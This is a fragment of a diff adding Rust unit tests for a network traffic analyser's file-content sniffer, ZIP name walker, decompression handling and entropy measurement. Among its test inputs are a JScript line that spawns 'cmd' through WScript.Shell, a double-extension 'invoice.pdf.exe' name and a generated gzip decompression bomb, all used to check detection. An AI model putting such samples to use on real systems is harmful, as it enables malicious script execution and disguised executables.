+            sniff(b"<html><body>hi</body></html>", &[], false).class,
+            "html"
+        );
+        assert_eq!(
+            sniff(
+                b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd');",
+                &[],
+                false
+            )
+            .class,
+            "script"
+        );
+        assert_eq!(
+            sniff(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", &[], false).class,
+            "media"
+        );
+        assert_eq!(
+            sniff(&[0x8f, 0x01, 0x00, 0xfe, 0x12, 0x00, 0x07], &[], false).class,
+            "unknown"
+        );
+        let names = vec![
+            "[Content_Types].xml".to_string(),
+            "word/vbaProject.bin".to_string(),
+        ];
+        assert_eq!(
+            sniff(b"PK\x03\x04\x14\0\0\0", &names, false).class,
+            "office_macro"
+        );
+        let names = vec!["invoice.pdf.exe".to_string()];
+        assert_eq!(
+            sniff(b"PK\x03\x04\x14\0\0\0", &names, false).class,
+            "archive_executable"
+        );
+        assert_eq!(sniff(b"", &[], false).class, "empty");
+    }
+
+    fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut z = Vec::new();
+        for (name, data) in entries {
+            z.extend_from_slice(b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0");
+            z.extend_from_slice(&[0; 4]); // crc
+            z.extend_from_slice(&(data.len() as u32).to_le_bytes());
+            z.extend_from_slice(&(data.len() as u32).to_le_bytes());
+            z.extend_from_slice(&(name.len() as u16).to_le_bytes());
+            z.extend_from_slice(&0u16.to_le_bytes());
+            z.extend_from_slice(name.as_bytes());
+            z.extend_from_slice(data);
+        }
+        z.extend_from_slice(b"PK\x01\x02");
+        z
+    }
+
+    #[test]
+    fn zip_walk_reads_names_across_any_split() {
+        let big = vec![7u8; 20_000];
+        let z = zip_of(&[
+            ("a.txt", b"hello"),
+            ("dir/big.bin", &big),
+            ("run.exe", b"MZ"),
+        ]);
+        for step in [1usize, 3, 29, 30, 31, 4096, z.len()] {
+            let mut w = ZipWalk::default();
+            for c in z.chunks(step) {
+                w.feed(c);
+            }
+            assert_eq!(
+                w.names,
+                vec!["a.txt", "dir/big.bin", "run.exe"],
+                "step {step}"
+            );
+        }
+    }
+
+    fn ctx() -> ConnCtx {
+        ConnCtx {
+            uid: "Cabc".into(),
+            orig_h: "10.0.0.1".parse().unwrap(),
+            orig_p: 40000,
+            resp_h: "192.0.2.1".parse().unwrap(),
+            resp_p: 80,
+            proto: 6,
+            source: "t.pcap".into(),
+        }
+    }
+
+    /// The fields of a `files` record these tests check, owned.
+    #[derive(Default)]
+    struct Row {
+        sha256: Option<String>,
+        seen_bytes: u64,
+        wire_bytes: u64,
+        complete: bool,
+        cut_reason: Option<String>,
+        entropy: Option<f64>,
+    }
+
+    #[derive(Default)]
+    struct Keep(Option<Row>);
+
+    impl RecordSink for Keep {
+        fn record(&mut self, r: Record<'_>) {
+            if let Record::File(f) = r {
+                self.0 = Some(Row {
+                    sha256: f.sha256.map(str::to_string),
+                    seen_bytes: f.seen_bytes,
+                    wire_bytes: f.wire_bytes,
+                    complete: f.complete,
+                    cut_reason: f.cut_reason.map(str::to_string),
+                    entropy: f.entropy,
+                });
+            }
+        }
+        fn weird(&mut self, _: i64, _: Option<&str>, _: &str, _: &str, _: Option<u64>) {}
+    }
+
+    fn one_row(meta: BodyMeta, chunks: &[&[u8]], complete: bool) -> Row {
+        let mut t = Keep::default();
+        let c = ctx();
+        let mut f = FileBody::new(meta, &c, None);
+        for ch in chunks {
+            f.write(ch);
+        }
+        f.finish(complete, &c, false, &mut t);
+        t.0.unwrap()
+    }
+
+    #[test]
+    fn gzip_deflate_brotli_bodies_hash_their_decoded_bytes() {
+        let body: Vec<u8> = (0..100_000u32).flat_map(|i| i.to_le_bytes()).collect();
+        let want = hex(&sha2::Sha256::digest(&body));
+        let gz = {
+            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+            e.write_all(&body).unwrap();
+            e.finish().unwrap()
+        };
+        let zl = {
+            let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+            e.write_all(&body).unwrap();
+            e.finish().unwrap()
+        };
+        let raw = {
+            let mut e =
+                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
+            e.write_all(&body).unwrap();
+            e.finish().unwrap()
+        };
+        let br = {
+            let mut out = Vec::new();
+            {
+                let mut e = brotli::CompressorWriter::new(&mut out, 4096, 5, 22);
+                e.write_all(&body).unwrap();
+            }
+            out
+        };
+        for (enc, data) in [
+            ("gzip", &gz),
+            ("deflate", &zl),
+            ("deflate", &raw),
+            ("br", &br),
+            ("", &body),
+        ] {
+            for step in [1usize, 7, 1460, data.len()] {
+                let chunks: Vec<&[u8]> = data.chunks(step).collect();
+                let meta = BodyMeta {
+                    content_encoding: (!enc.is_empty()).then(|| enc.to_string()),
+                    ..Default::default()
+                };
+                let b = one_row(meta, &chunks, true);
+                assert_eq!(
+                    b.sha256.as_deref(),
+                    Some(want.as_str()),
+                    "{enc} step {step}"
+                );
+                assert_eq!(b.seen_bytes, body.len() as u64);
+                assert_eq!(b.wire_bytes, data.len() as u64);
+                assert!(b.complete);
+            }
+        }
+        // a cut gzip body: complete=false, no hashes, the bytes decoded so far counted
+        let b = one_row(
+            BodyMeta {
+                content_encoding: Some("gzip".into()),
+                ..Default::default()
+            },
+            &[&gz[..gz.len() / 2]],
+            false,
+        );
+        assert!(!b.complete);
+        assert_eq!(b.cut_reason.as_deref(), Some("end_of_capture"));
+        assert_eq!(b.sha256, None);
+        assert!(b.seen_bytes > 0);
+        // garbage declared gzip: decode_error, not a panic
+        let b = one_row(
+            BodyMeta {
+                content_encoding: Some("gzip".into()),
+                ..Default::default()
+            },
+            &[b"this is not gzip at all"],
+            true,
+        );
+        assert_eq!(b.cut_reason.as_deref(), Some("decode_error"));
+    }
+
+    #[test]
+    fn a_decompression_bomb_stops_at_the_ratio_cap() {
+        let zeros = vec![0u8; 8 << 20];
+        let gz = {
+            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+            e.write_all(&zeros).unwrap();
+            e.finish().unwrap()
+        };
+        // 8 MiB of zeros compress to ~8 KiB: past 1024x (and the 1 MiB floor) decoding stops
+        let b = one_row(
+            BodyMeta {
+                content_encoding: Some("gzip".into()),
+                ..Default::default()
+            },
+            &[&gz],
+            true,
+        );
+        assert_eq!(b.cut_reason.as_deref(), Some("decode_cap"));
+        let seen = b.seen_bytes;
+        assert!(
+            seen <= (gz.len() as u64 * DECODED_RATIO).max(1 << 20),
+            "{seen}"
+        );
+    }
+
+    #[test]
+    fn entropy_of_constant_and_uniform_bodies() {
+        let b = one_row(BodyMeta::default(), &[&[b'a'; 1000]], true);
+        assert_eq!(b.entropy, Some(0.0));
+        let all: Vec<u8> = (0..=255u8).cycle().take(256 * 64).collect();
+        let b = one_row(BodyMeta::default(), &[&all], true);
+        assert_eq!(b.entropy, Some(8.0));
+    }
+}
